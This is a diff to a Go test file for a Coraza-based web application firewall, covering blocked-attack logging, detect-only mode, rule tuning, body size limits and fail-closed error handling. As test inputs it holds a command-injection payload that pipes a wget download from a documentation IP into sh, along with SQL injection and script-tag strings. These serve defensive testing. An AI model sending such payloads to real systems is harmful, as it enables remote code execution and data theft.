@@ -3,12 +3,15 @@ package waf_test
 import (
 	"bytes"
 	"encoding/json"
+	"errors"
 	"io"
 	"log/slog"
 	"net/http"
 	"net/http/httptest"
 	"net/netip"
 	"net/url"
+	"os"
+	"path/filepath"
 	"strconv"
 	"strings"
 	"sync"
@@ -167,6 +170,15 @@ var attacks = []struct{ name, payload string }{
 	{"cmd pipe wget", "| wget http://203.0.113.9/x.sh -O- | sh"},
 }
 
+func attackPayload(c reqCase) string {
+	for _, a := range attacks {
+		if strings.HasPrefix(c.name, a.name+" in ") {
+			return a.payload
+		}
+	}
+	panic("no payload for " + c.name)
+}
+
 func attackCases() []reqCase {
 	var cs []reqCase
 	for _, a := range attacks {
@@ -216,6 +228,11 @@ func TestAttacksBlocked(t *testing.T) {
 			ev := evs[0]
 			if ev["event"] != audit.WAFBlocked || ev["owasp"] != audit.OWASPMisconfig || ev["status"] != float64(403) || ev["client_ip"] != "203.0.113.7" {
 				t.Fatalf("event = %v", ev)
+			}
+			line, _ := json.Marshal(ev)
+			payload := attackPayload(c)
+			if strings.Contains(string(line), payload) || strings.Contains(string(line), url.QueryEscape(payload)) {
+				t.Fatalf("event carries the payload: %s", line)
 			}
 			ids, _ := ev["rule_ids"].([]any)
 			if len(ids) < 2 || !contains(ids, float64(949110)) {
@@ -274,4 +291,298 @@ func contains(s []any, v any) bool {
 		}
 	}
 	return false
+}
+
+func TestDetectOnlyPassesAndEmits(t *testing.T) {
+	w := build(t, "detect", waf.Config{DetectOnly: true})
+	for _, c := range attackCases() {
+		t.Run(c.name, func(t *testing.T) {
+			r := c.request(t)
+			rec := httptest.NewRecorder()
+			up := new(upstream)
+			w.Handler(up).ServeHTTP(rec, r)
+			if rec.Code != http.StatusNoContent || !up.called || string(up.body) != c.body {
+				t.Fatalf("status = %d, upstream called = %v, body = %q", rec.Code, up.called, up.body)
+			}
+			evs := sink.byRequest(rampart.InfoFrom(r.Context()).RequestID)
+			if len(evs) != 1 {
+				t.Fatalf("events = %d, want 1", len(evs))
+			}
+			ev := evs[0]
+			if ev["event"] != audit.WAFBlocked || ev["detect_only"] != true || ev["status"] != nil || !strings.HasPrefix(ev["reason"].(string), "detect only: ") {
+				t.Fatalf("event = %v", ev)
+			}
+			if ids, _ := ev["rule_ids"].([]any); !contains(ids, float64(949110)) {
+				t.Fatalf("rule_ids = %v", ev["rule_ids"])
+			}
+		})
+	}
+}
+
+func TestTuning(t *testing.T) {
+	tautology := reqCase{name: "tautology", target: q("' OR 1=1--")}
+	union := reqCase{name: "union", target: q("1 UNION SELECT username, password FROM users--")}
+	tests := []struct {
+		name   string
+		cfg    waf.Config
+		c      reqCase
+		status int
+	}{
+		{"excluded rule no longer blocks", waf.Config{Exclusions: []int{942100}}, tautology, http.StatusNoContent},
+		{"exclusion leaves the other rules", waf.Config{Exclusions: []int{942100}}, union, http.StatusForbidden},
+		{"higher threshold lets a single critical match pass", waf.Config{AnomalyThreshold: 10}, tautology, http.StatusNoContent},
+		{"higher threshold still blocks several matches", waf.Config{AnomalyThreshold: 10}, union, http.StatusForbidden},
+		{"paranoia 4 blocks what level 1 blocks", waf.Config{ParanoiaLevel: 4}, tautology, http.StatusForbidden},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			w := build(t, tt.name, tt.cfg)
+			rec := httptest.NewRecorder()
+			w.Handler(new(upstream)).ServeHTTP(rec, tt.c.request(t))
+			if rec.Code != tt.status {
+				t.Fatalf("status = %d, want %d", rec.Code, tt.status)
+			}
+		})
+	}
+}
+
+// chunked makes r look like a request without Content-Length whose body
+// the WAF cannot size in advance.
+func chunked(r *http.Request) *http.Request {
+	r.ContentLength = -1
+	r.Header.Del("Content-Length")
+	r.TransferEncoding = []string{"chunked"}
+	r.Body = io.NopCloser(struct{ io.Reader }{r.Body})
+	return r
+}
+
+func TestBodyLimit(t *testing.T) {
+	const limit = 64
+	exact := `{"note":"` + strings.Repeat("a", limit-11) + `"}`
+	over := `{"note":"` + strings.Repeat("a", limit-10) + `"}`
+	if len(exact) != limit || len(over) != limit+1 {
+		t.Fatal("bad fixture")
+	}
+	tests := []struct {
+		name   string
+		detect bool
+		body   string
+		chunk  bool
+		status int
+	}{
+		{"body at the limit passes", false, exact, false, http.StatusNoContent},
+		{"chunked body at the limit passes", false, exact, true, http.StatusNoContent},
+		{"declared length over the limit", false, over, false, http.StatusRequestEntityTooLarge},
+		{"chunked body over the limit", false, over, true, http.StatusRequestEntityTooLarge},
+		{"detect only: declared length over the limit", true, over, false, http.StatusRequestEntityTooLarge},
+		{"detect only: chunked body over the limit is not passed half-inspected", true, over, true, http.StatusRequestEntityTooLarge},
+		{"detect only: chunked body at the limit passes", true, exact, true, http.StatusNoContent},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			name := "limit"
+			if tt.detect {
+				name = "limit detect"
+			}
+			w := build(t, name, waf.Config{MaxBodyBytes: limit, DetectOnly: tt.detect})
+			r := reqCase{target: "/api/notes", contentType: ctJSON, body: tt.body}.request(t)
+			if tt.chunk {
+				r = chunked(r)
+			}
+			rec := httptest.NewRecorder()
+			up := new(upstream)
+			w.Handler(up).ServeHTTP(rec, r)
+			if rec.Code != tt.status {
+				t.Fatalf("status = %d, want %d", rec.Code, tt.status)
+			}
+			if tt.status == http.StatusNoContent && string(up.body) != tt.body {
+				t.Fatalf("upstream body = %q", up.body)
+			}
+			if tt.status != http.StatusNoContent && up.called {
+				t.Fatal("upstream was called")
+			}
+		})
+	}
+}
+
+func TestLargeBodyPassedIntact(t *testing.T) {
+	// Bigger than any single read, so the replayed body spans Coraza's
+	// buffer and several reads.
+	w := build(t, "default", waf.Config{})
+	var sb strings.Builder
+	sb.WriteString(`{"items":[`)
+	for i := 0; i < 300; i++ {
+		if i > 0 {
+			sb.WriteByte(',')
+		}
+		sb.WriteString(`{"id":` + strconv.Itoa(i) + `,"name":"item number ` + strconv.Itoa(i) + `"}`)
+	}
+	sb.WriteString(`]}`)
+	body := sb.String()
+	for _, chunk := range []bool{false, true} {
+		r := reqCase{target: "/api/items", contentType: ctJSON, body: body}.request(t)
+		if chunk {
+			r = chunked(r)
+		}
+		rec := httptest.NewRecorder()
+		up := new(upstream)
+		w.Handler(up).ServeHTTP(rec, r)
+		if rec.Code != http.StatusNoContent || string(up.body) != body {
+			t.Fatalf("chunked=%v: status = %d, body intact = %v", chunk, rec.Code, string(up.body) == body)
+		}
+	}
+}
+
+func TestUnparsableBodyRefused(t *testing.T) {
+	// A body the WAF cannot parse is a body it did not inspect.
+	w := build(t, "default", waf.Config{})
+	for _, body := range []string{`{"q": "unterminated`, `{"a":1}}`, "\x00\x01\x02"} {
+		rec := httptest.NewRecorder()
+		up := new(upstream)
+		w.Handler(up).ServeHTTP(rec, reqCase{target: "/api/search", contentType: ctJSON, body: body}.request(t))
+		if rec.Code != http.StatusBadRequest || up.called {
+			t.Fatalf("%q: status = %d, upstream called = %v", body, rec.Code, up.called)
+		}
+	}
+}
+
+type failingBody struct{ err error }
+
+func (b failingBody) Read([]byte) (int, error) { return 0, b.err }
+func (failingBody) Close() error               { return nil }
+
+func TestBodyErrorsFailClosed(t *testing.T) {
+	var logs bytes.Buffer
+	cfg := waf.Config{Events: events, Log: slog.New(slog.NewJSONHandler(&logs, nil))}
+	w, err := waf.New(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer w.Close()
+	tests := []struct {
+		name   string
+		body   func(r *http.Request) io.ReadCloser
+		status int
+		logged bool
+	}{
+		{"connection reset mid-body", func(*http.Request) io.ReadCloser {
+			return failingBody{errors.New("read tcp 10.0.0.1:8080: connection reset by peer")}
+		}, http.StatusInternalServerError, true},
+		{"gateway body cap exceeded", func(r *http.Request) io.ReadCloser {
+			return http.MaxBytesReader(httptest.NewRecorder(), r.Body, 10)
+		}, http.StatusRequestEntityTooLarge, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			logs.Reset()
+			r := chunked(reqCase{target: "/api/notes", contentType: ctJSON, body: `{"note":"hello there"}`}.request(t))
+			r.Body = tt.body(r)
+			rec := httptest.NewRecorder()
+			up := new(upstream)
+			w.Handler(up).ServeHTTP(rec, r)
+			if rec.Code != tt.status || up.called {
+				t.Fatalf("status = %d, upstream called = %v", rec.Code, up.called)
+			}
+			if rec.Header().Get("Content-Type") != problem.ContentType || strings.Contains(rec.Body.String(), "10.0.0.1") {
+				t.Fatalf("response = %s", rec.Body)
+			}
+			id := rampart.InfoFrom(r.Context()).RequestID
+			if got := strings.Contains(logs.String(), `"request_id":"`+id+`"`); got != tt.logged {
+				t.Fatalf("logged = %v, want %v: %s", got, tt.logged, logs.String())
+			}
+		})
+	}
+}
+
+func TestNilWAFPassesThrough(t *testing.T) {
+	var w *waf.WAF
+	up := new(upstream)
+	rec := httptest.NewRecorder()
+	w.Handler(up).ServeHTTP(rec, reqCase{target: q("' OR 1=1--")}.request(t))
+	if rec.Code != http.StatusNoContent || !up.called || w.Close() != nil {
+		t.Fatalf("status = %d", rec.Code)
+	}
+}
+
+func TestErrorHandlerHook(t *testing.T) {
+	var got error
+	w, err := waf.New(waf.Config{ErrorHandler: func(w http.ResponseWriter, r *http.Request, err error) {
+		got = err
+		w.WriteHeader(http.StatusTeapot)
+	}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer w.Close()
+	rec := httptest.NewRecorder()
+	w.Handler(new(upstream)).ServeHTTP(rec, reqCase{target: q("<script>alert(1)</script>")}.request(t))
+	var p *problem.Error
+	if rec.Code != http.StatusTeapot || !errors.As(got, &p) || p.Status != http.StatusForbidden {
+		t.Fatalf("status = %d, err = %v", rec.Code, got)
+	}
+}
+
+func TestCorazaWritesNothing(t *testing.T) {
+	// Coraza's audit log would record headers and bodies, its debug log
+	// matched data; both must be off. Bodies must stay in memory: the
+	// temporary directory Coraza would spill to is gone once the WAF is
+	// built, so any attempt to write there fails the request.
+	tmp := filepath.Join(t.TempDir(), "tmp")
+	if err := os.Mkdir(tmp, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("TMPDIR", tmp)
+	stdout, stderr := os.Stdout, os.Stderr
+	pr, pw, err := os.Pipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	os.Stdout, os.Stderr = pw, pw
+	captured := make(chan []byte)
+	go func() {
+		b, _ := io.ReadAll(pr)
+		captured <- b
+	}()
+	// Over Coraza's recommended 128 KiB in-memory limit; numbers keep
+	// the inspection cheap.
+	big := `{"readings":[` + strings.Repeat("17,", 50000) + `17]}`
+	tests := []struct {
+		c      reqCase
+		status int
+	}{
+		{reqCase{target: "/api/readings", contentType: ctJSON, body: big}, http.StatusNoContent},
+		{reqCase{target: "/api/notes", contentType: ctJSON, body: jsonBody("q", "' OR 1=1-- secret-body-value")}, http.StatusForbidden},
+		{reqCase{target: "/api/notes", contentType: ctForm, body: formBody("note", "<script>alert(1)</script>secret-body-value")}, http.StatusForbidden},
+	}
+	func() {
+		defer func() { os.Stdout, os.Stderr = stdout, stderr }()
+		w, err := waf.New(waf.Config{MaxBodyBytes: 1 << 20})
+		if err != nil {
+			t.Error(err)
+			return
+		}
+		defer w.Close()
+		if err := os.Remove(tmp); err != nil {
+			t.Error(err)
+			return
+		}
+		for _, tt := range tests {
+			for _, chunk := range []bool{false, true} {
+				r := tt.c.request(t)
+				if chunk {
+					r = chunked(r)
+				}
+				rec := httptest.NewRecorder()
+				up := new(upstream)
+				w.Handler(up).ServeHTTP(rec, r)
+				if rec.Code != tt.status || (up.called && string(up.body) != tt.c.body) {
+					t.Errorf("%s chunked=%v: status = %d, want %d", tt.c.target, chunk, rec.Code, tt.status)
+				}
+			}
+		}
+	}()
+	pw.Close()
+	if out := <-captured; len(out) != 0 {
+		t.Fatalf("Coraza wrote to stdout/stderr: %.200s", out)
+	}
 }
